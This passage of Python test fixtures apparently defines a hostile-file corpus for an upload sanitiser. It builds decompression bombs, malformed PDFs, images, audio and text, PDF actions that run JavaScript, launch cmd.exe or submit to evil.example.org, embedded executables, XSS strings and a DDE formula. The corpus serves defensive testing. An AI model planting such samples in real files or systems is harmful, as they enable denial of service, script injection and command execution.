    Hostile("pdf-deep-array", "a.pdf", "corrupt", lambda: raw_pdf(objects(o3=page(Annots="[" * 20_000 + "]" * 20_000)))),
    Hostile("pdf-deep-dictionary", "a.pdf", "document", lambda: raw_pdf(objects(o3=page(X="<< /A " * 20_000 + "1" + " >>" * 20_000)))),
    Hostile("pdf-length-lies", "a.pdf", "document", lambda: raw_pdf(objects(o4=stream(TEXT).replace(f"/Length {len(TEXT)}".encode(), b"/Length 99999")))),
    Hostile("pdf-length-of-itself", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=stream(TEXT).replace(f"/Length {len(TEXT)}".encode(), b"/Length 4 0 R")))),
    Hostile("pdf-script", "a.pdf", "document", lambda: acting("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    Hostile("pdf-launch", "a.pdf", "document", lambda: acting("<< /S /Launch /F (cmd.exe) >>")),
    Hostile("pdf-sends-itself", "a.pdf", "document", lambda: acting("<< /S /SubmitForm /F (http://evil.example.org) >>")),
    Hostile("pdf-embedded-file", "a.pdf", "document", holding_file),
    Hostile("pdf-properties-of-itself", "a.pdf", "document", lambda: raw_pdf(objects(o5="<< /Author 5 0 R >>"), trailer="/Info 5 0 R")),
    Hostile("pdf-description-with-entities", "a.pdf", "corrupt", lambda: raw_pdf(objects(o1="<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>", o5=stream((LAUGHS + "<d>&l9;</d>").encode())))),
    Hostile("pdf-huge-page", "a.pdf", "corrupt", lambda: raw_pdf(objects(o3=page(MediaBox="[0 0 1e30 1e30]")))),
    Hostile("pdf-no-page-size", "a.pdf", "corrupt", lambda: raw_pdf(objects(o3=page(MediaBox="[]")))),
    Hostile("pdf-huge-number", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=stream(b"BT /F1 1" + b"0" * 400 + b" Tf (Hello) Tj ET")))),
    Hostile("pdf-no-root", "a.pdf", "corrupt", lambda: raw_pdf({2: "<< >>"})),
    Hostile("pdf-rubbish", "a.pdf", "corrupt", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF"),
    Hostile("pdf-head-only", "a.pdf", "corrupt", lambda: b"%PDF-1.7\n%%EOF"),
    Hostile("pdf-scan", "a.pdf", "no_text", lambda: pdf_file([])),
]  # fmt: skip


# --- Pictures ------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, content: bytes) -> bytes:
    return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")


def png_of(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(more) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def resized_jpeg(width: int, height: int) -> bytes:
    content = bytearray(jpeg())
    at = content.find(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def located_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (55.0, 51.0, 3.0)
    exif.get_ifd(0x9286)[0] = "x"
    return jpeg((40, 20), exif=exif)


def described_png() -> bytes:
    texts = PngInfo()
    texts.add_text("Comment", "SecretCamera")
    return png(pnginfo=texts)


def webp_canvas(width: int, height: int) -> bytes:
    frame = webp(lossless=True)[12:]
    canvas = struct.pack("<B3x", 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<I", 10) + canvas + frame
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def moving(form: str) -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (n, 0, 0)) for n in range(40)]
    frames[0].save(file, form, save_all=True, append_images=frames[1:])
    return file.getvalue()


ZEROS = zlib.compress(bytes(200))
PICTURES = [
    Hostile("picture-png-bomb", "a.png", "bomb", lambda: png_of(60_000, 60_000, ZEROS)),
    Hostile("picture-png-wide", "a.png", "bomb", lambda: png_of(2_000_000_000, 1, ZEROS)),
    Hostile("picture-png-17-megapixels", "a.png", "bomb", lambda: png_of(4_200, 4_000, ZEROS)),
    Hostile("picture-jpeg-bomb", "a.jpg", "bomb", lambda: resized_jpeg(65_000, 65_000)),
    Hostile("picture-webp-bomb", "a.webp", "bomb", lambda: webp_canvas(16_000, 16_000)),
    Hostile("picture-gif-bomb", "a.gif", "wrong_kind", lambda: b"GIF89a\xff\xff\xff\xff\0\0\0"),
    Hostile("picture-16-megapixels", "a.png", "picture", lambda: png((4_000, 4_000)), limits=True),
    Hostile("picture-50-megapixels-jpeg", "a.jpg", "picture", lambda: jpeg((8_160, 6_120)), limits=True),
    Hostile("picture-more-pixels-than-said", "a.png", "picture", lambda: png_of(10, 10, zlib.compress(bytes(30 * MEGABYTE)))),
    Hostile("picture-fewer-pixels-than-said", "a.png", "corrupt", lambda: png_of(100, 100, ZEROS)),
    Hostile("picture-profile-bomb", "a.png", "corrupt", lambda: png_of(8, 8, ZEROS, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(90 * MEGABYTE))))),
    Hostile("picture-text-bomb", "a.png", "corrupt", lambda: png_of(8, 8, ZEROS, chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(90 * MEGABYTE))))),
    Hostile("picture-many-texts", "a.png", "corrupt", lambda: png_of(8, 8, ZEROS, *[chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(900_000)))] * 100)),
    Hostile("picture-bad-sum", "a.png", "corrupt", lambda: noise("PNG")[:-900] + b"????" + noise("PNG")[-896:]),
    Hostile("picture-no-size", "a.png", "corrupt", lambda: png_of(0, 0, ZEROS)),
    Hostile("picture-location", "a.jpg", "picture", located_jpeg, gone=b"SecretCamera"),
    Hostile("picture-comment", "a.png", "picture", described_png, gone=b"SecretCamera"),
    Hostile("picture-profile", "a.jpg", "picture", lambda: jpeg(icc_profile=b"SecretProfile" * 20), gone=b"SecretProfile"),
    Hostile("picture-xmp", "a.jpg", "picture", lambda: jpeg(xmp=b"<x>SecretCamera</x>"), gone=b"SecretCamera"),
    Hostile("picture-moving-webp", "a.webp", "picture", lambda: moving("WEBP")),
    Hostile("picture-moving-png", "a.png", "picture", lambda: moving("PNG")),
    Hostile("picture-through", "a.png", "picture", lambda: png(mode="LA")),
    Hostile("picture-16-bit", "a.png", "picture", lambda: png(mode="I;16")),
    Hostile("picture-one-bit", "a.png", "picture", lambda: png(mode="1")),
    Hostile("picture-four-inks", "a.jpg", "picture", lambda: _four_inks()),
    Hostile("picture-head-only", "a.png", "corrupt", lambda: b"\x89PNG\r\n\x1a\n"),
    Hostile("picture-jpeg-head-only", "a.jpg", "corrupt", lambda: b"\xff\xd8\xff\xe0" + bytes(40)),
    Hostile("picture-loop", "a.png", "corrupt", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) * 3),
]  # fmt: skip


def _four_inks() -> bytes:
    file = io.BytesIO()
    Image.new("CMYK", (20, 20)).save(file, "JPEG")
    return file.getvalue()


# --- Sound ---------------------------------------------------------------------------------------------------------

FRAME = b"\xff\xfb\x90\x00" + bytes(413)  # 128 kbit/s at 44.1 kHz


def id3(content: bytes, size: int | None = None) -> bytes:
    length = len(content) if size is None else size
    return b"ID3\4\0\0" + bytes((length >> shift) & 0x7F for shift in (21, 14, 7, 0)) + content


def mp3(frames: int = 100) -> bytes:
    return FRAME * frames


def wave_chunk(kind: bytes, content: bytes) -> bytes:
    return kind + len(content).to_bytes(4, "little") + content + bytes(len(content) % 2)


def wav(*more: bytes, codec: int = 1, byte_rate: int = 16_000, samples: bytes = bytes(32_000)) -> bytes:
    form = struct.pack("<HHIIHH", codec, 1, 8_000, byte_rate, 2, 16)
    body = b"WAVE" + wave_chunk(b"fmt ", form) + b"".join(more) + wave_chunk(b"data", samples)
    return b"RIFF" + len(body).to_bytes(4, "little") + body


def flac(*blocks: tuple[int, bytes]) -> bytes:
    facts = (
        struct.pack(">HH", 4096, 4096)
        + bytes(6)
        + ((44_100 << 44) | (15 << 36) | 441_000).to_bytes(8, "big")
        + bytes(16)
    )
    found = [(0, facts), *blocks]
    content = b"fLaC"
    for number, (kind, body) in enumerate(found):
        last = 0x80 if number == len(found) - 1 else 0
        content += bytes([kind | last]) + len(body).to_bytes(3, "big") + body
    return content + b"\xff\xf8" + bytes(2000)


def ogg_page(
    number: int, content: bytes, *, granule: int = 0, serial: int = 7, kind: int = 0, open_end: bool = False
) -> bytes:
    from core.ogg import _checksum

    lengths = [255] * (len(content) // 255) + ([] if open_end else [len(content) % 255])
    head = (
        b"OggS\0"
        + bytes([kind])
        + granule.to_bytes(8, "little")
        + serial.to_bytes(4, "little")
        + number.to_bytes(4, "little")
    )
    page_ = bytearray(head + bytes(4) + bytes([len(lengths)]) + bytes(lengths) + content)
    page_[22:26] = _checksum(page_).to_bytes(4, "little")
    return bytes(page_)


OPUS_HEAD = b"OpusHead\1\1" + (312).to_bytes(2, "little") + (48_000).to_bytes(4, "little") + bytes(3)


def opus(comment: bytes = b"SecretSinger", *, head: bytes = OPUS_HEAD, serial: int = 7) -> bytes:
    tags = b"OpusTags" + bytes(4) + (1).to_bytes(4, "little") + len(comment).to_bytes(4, "little") + comment
    whole = len(tags) // 255 * 255
    pages = [ogg_page(0, head, kind=2)]
    for number, at in enumerate(range(0, max(whole, 1), 255 * 200), 1):
        piece = tags[at : at + 255 * 200]
        pages.append(ogg_page(number, piece, open_end=len(piece) == 255 * 200))
    pages.append(ogg_page(90, bytes(300), granule=48_000 * 3, serial=serial, kind=4))
    return b"".join(pages)


def box(kind: bytes, content: bytes) -> bytes:
    return (8 + len(content)).to_bytes(4, "big") + kind + content


def m4a(*more: bytes, handler: bytes = b"soun", tail: bytes = b"") -> bytes:
    header = box(b"mvhd", bytes(12) + (1000).to_bytes(4, "big") + (5000).to_bytes(4, "big") + bytes(80))
    media = box(b"mdhd", bytes(24)) + box(b"hdlr", bytes(8) + handler + bytes(13)) + box(b"minf", bytes(40))
    track = box(b"trak", box(b"tkhd", bytes(84)) + box(b"mdia", media))
    tags = box(b"udta", box(b"meta", bytes(4) + b"SecretSinger"))
    movie = box(b"moov", header + track + tags + b"".join(more))
    return box(b"ftyp", b"M4A \0\0\2\0isomM4A ") + movie + box(b"mdat", bytes(500)) + tail


def nested_boxes(levels: int) -> bytes:
    content = b""
    for _level in range(levels):
        content = box(b"moov", content)
    return box(b"ftyp", b"M4A \0\0\2\0") + content


SOUNDS = [
    Hostile("sound-mp3-tags", "a.mp3", "sound", lambda: id3(b"SecretSinger") + mp3() + b"TAG" + b"SecretSinger".ljust(125), gone=b"SecretSinger"),
    Hostile("sound-mp3-picture", "a.mp3", "sound", lambda: id3(jpeg() + bytes(300_000)) + mp3(), gone=b"JFIF"),
    Hostile("sound-mp3-zip", "a.mp3", "sound", lambda: mp3() + packed({"evil.exe": EXE}), gone=b"PK\3\4"),
    Hostile("sound-mp3-html", "a.mp3", "sound", lambda: id3(b"<script>alert(1)</script>") + mp3(), gone=b"<script>"),
    Hostile("sound-mp3-between", "a.mp3", "sound", lambda: mp3(10) + b"<script>alert(1)</script>" + mp3(10), gone=b"<script>"),
    Hostile("sound-mp3-cut", "a.mp3", "sound", lambda: mp3()[:-200]),
    Hostile("sound-mp3-huge-tag", "a.mp3", "corrupt", lambda: id3(bytes(100), size=0xFFFFFFF) + mp3()),
    Hostile("sound-mp3-endless-tags", "a.mp3", "corrupt", lambda: id3(b"") * 200_000),
    Hostile("sound-mp3-tag-only", "a.mp3", "corrupt", lambda: id3(b"<html>" * 100)),
    Hostile("sound-mp3-one-frame", "a.mp3", "corrupt", lambda: mp3(1) + bytes(3000)),
    Hostile("sound-mp3-noise", "a.mp3", "corrupt", lambda: b"\xff\xfb" + b"\xff\xe0" * 200_000),
    Hostile("sound-mp3-as-docx", "a.docx", "wrong_kind", mp3),
    Hostile("sound-wav-tags", "a.wav", "sound", lambda: wav(wave_chunk(b"LIST", b"INFOSecretSinger")), gone=b"SecretSinger"),
    Hostile("sound-wav-exe", "a.wav", "sound", lambda: wav(wave_chunk(b"evil", EXE)) + EXE, gone=b"MZ\x90"),
    Hostile("sound-wav-cut", "a.wav", "corrupt", lambda: wav()[:-9000]),
    Hostile("sound-wav-says-4-gb", "a.wav", "corrupt", lambda: wav().replace(b"data\0\x7d\0\0", b"data\xff\xff\xff\xff")),
    Hostile("sound-wav-many-chunks", "a.wav", "corrupt", lambda: wav(wave_chunk(b"x", b"") * 30_000)),
    Hostile("sound-wav-no-rate", "a.wav", "corrupt", lambda: wav(byte_rate=0)),
    Hostile("sound-wav-other-codec", "a.wav", "corrupt", lambda: wav(codec=0x1234)),
    Hostile("sound-wav-no-form", "a.wav", "corrupt", lambda: b"RIFF\x0c\0\0\0WAVEdata\0\0\0\0"),
    Hostile("sound-flac-tags", "a.flac", "sound", lambda: flac((4, b"SecretSinger"), (6, jpeg()), (1, bytes(500))), gone=b"SecretSinger"),
    Hostile("sound-flac-cut-in-head", "a.flac", "corrupt", lambda: flac((4, bytes(4000)))[:1000]),
    Hostile("sound-flac-endless-blocks", "a.flac", "corrupt", lambda: b"fLaC" + bytes(400_000)),
    Hostile("sound-flac-head-only", "a.flac", "corrupt", lambda: b"fLaC"),
    Hostile("sound-ogg-tags", "a.ogg", "sound", opus, gone=b"SecretSinger"),
    Hostile("sound-ogg-large-tags", "a.opus", "sound", lambda: opus(b"SecretSinger" * 20_000), gone=b"SecretSinger"),
    Hostile("sound-ogg-html-after", "a.ogg", "sound", lambda: opus() + b"<script>alert(1)</script>", gone=b"<script>"),
    Hostile("sound-ogg-cut", "a.ogg", "corrupt", lambda: opus()[:-100]),
    Hostile("sound-ogg-film", "a.ogg", "corrupt", lambda: opus(head=b"\x80theora" + bytes(40))),
    Hostile("sound-ogg-two-streams", "a.ogg", "corrupt", lambda: opus(serial=8)),
    Hostile("sound-ogg-empty-pages", "a.ogg", "corrupt", lambda: ogg_page(0, b"") * 10_000),
    Hostile("sound-m4a-tags", "a.m4a", "sound", m4a, gone=b"SecretSinger"),
    Hostile("sound-m4a-html", "a.m4a", "sound", lambda: m4a(tail=box(b"free", b"<script>alert(1)</script>")), gone=b"<script>"),
    Hostile("sound-m4a-film", "a.mp4", "wrong_kind", lambda: m4a(handler=b"vide")),
    Hostile("sound-m4a-place", "a.m4a", "wrong_kind", lambda: m4a(box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + b"meta" + bytes(13)))))),
    Hostile("sound-m4a-cut", "a.m4a", "corrupt", lambda: m4a()[:-100]),
    Hostile("sound-m4a-no-size", "a.m4a", "corrupt", lambda: m4a(b"\0\0\0\4loop")),
    Hostile("sound-m4a-huge-size", "a.m4a", "corrupt", lambda: m4a(b"\0\0\0\1mdat" + b"\xff" * 8)),
    Hostile("sound-m4a-deep", "a.m4a", "corrupt", lambda: nested_boxes(5_000)),
    Hostile("sound-m4a-head-only", "a.m4a", "corrupt", lambda: box(b"ftyp", b"M4A \0\0\2\0")),
    Hostile("sound-m4a-many-boxes", "a.m4a", "corrupt", lambda: m4a(box(b"free", b"") * 100_000)),
]  # fmt: skip


# --- Text ----------------------------------------------------------------------------------------------------------

TEXTS = [
    Hostile("text-nul", "a.txt", "wrong_kind", lambda: b"Hello\0set"),
    Hostile("text-utf16-le", "a.txt", "document", lambda: "Hello Siân".encode("utf-16")),
    Hostile("text-utf16-be", "a.txt", "document", lambda: b"\xfe\xff" + "Hello Siân".encode("utf-16-be")),
    Hostile("text-utf16-half", "a.txt", "document", lambda: "Hello Siân".encode("utf-16")[:-1]),
    Hostile("text-utf32", "a.txt", "wrong_kind", lambda: "Hello".encode("utf-32")),
    Hostile("text-utf16-broken", "a.txt", "wrong_kind", lambda: b"\xff\xfe\x00\xd8\x41\x00"),
    Hostile("text-not-utf8", "a.txt", "document", lambda: b"Hello \xe9\xff set"),
    Hostile("text-cut-letter", "a.txt", "document", lambda: "Hello Siâ".encode()[:-1]),
    Hostile("text-overlong", "a.txt", "document", lambda: b"Hello \xc0\xbcscript\xc0\xbe", gone=b"<script>"),
    Hostile("text-one-long-line", "a.txt", "document", lambda: b"word " * (MEGABYTE - 60_000), limits=True),
    Hostile("text-one-long-word", "a.txt", "document", lambda: b"a" * 4_900_000, limits=True),
    Hostile("text-too-long", "a.txt", "too_large", lambda: b"word\n\n" * MEGABYTE, limits=True),
    Hostile("text-over-the-cap", "a.txt", "too_large", lambda: bytes(20 * MEGABYTE + 1)),
    Hostile("text-empty", "a.txt", "empty", lambda: b""),
    Hostile("text-blank", "a.txt", "no_text", lambda: b" \r\n\t\n" * 500),
    Hostile("text-unseen-only", "a.txt", "no_text", lambda: "\u200b\u2060\u202e\ufeff".encode() * 50),
    Hostile("text-controls", "a.txt", "wrong_kind", lambda: b"Hello\x1b[2J\x07set"),
    Hostile("text-turned", "a.txt", "document", lambda: "Hello \u202etes\u202c set".encode(), gone="\u202e".encode()),
    Hostile("text-unseen-letters", "a.txt", "document", lambda: "Ja\u200bsp\u2060reet".encode(), gone="\u200b".encode()),
    Hostile("text-tags", "a.txt", "document", lambda: "Hello\U000e0041\U000e0042".encode(), gone="\U000e0041".encode()),
    Hostile("text-script", "a.txt", "document", lambda: b"Hello {{7*7}} <img src=x onerror=alert(1)>"),
    Hostile("text-formula", "a.txt", "document", lambda: b"=cmd|'/c calc'!A1"),
    Hostile("md-script", "a.md", "document", lambda: b"Hello <script>alert(1)</script>\n\n<script>alert(2)</script>", gone=b"<script>"),
    Hostile("md-link-script", "a.md", "document", lambda: b"Hello [set](javascript:alert(1))"),
    Hostile("md-deep-quote", "a.md", "no_text", lambda: b">" * 20_000 + b" Hello", limits=True),
    Hostile("md-deep-list", "a.md", "document", lambda: b"".join(b" " * n + b"- a\n" for n in range(1_500)), limits=True),
    Hostile("md-brackets", "a.md", "document", lambda: b"[" * 30_000 + b"a", limits=True),
    Hostile("md-stars", "a.md", "document", lambda: b"*a **a " * 8_000, limits=True),
    Hostile("md-backticks", "a.md", "document", lambda: b"".join(b"e" + b"`" * n for n in range(1_000)), limits=True),
    Hostile("md-table", "a.md", "bomb", lambda: b"|a" * 400 + b"\n" + b"|-" * 400 + b"\n" + (b"|x" * 400 + b"\n") * 2000, limits=True),
]  # fmt: skip

CORPUS = [
    *ZIPS, *XMLS, *ACTIVE, *NAMES, *POLYGLOTS, *MISNAMED, *CUT, *LOCKED, *PDFS, *PICTURES, *SOUNDS, *TEXTS,
]  # fmt: skip
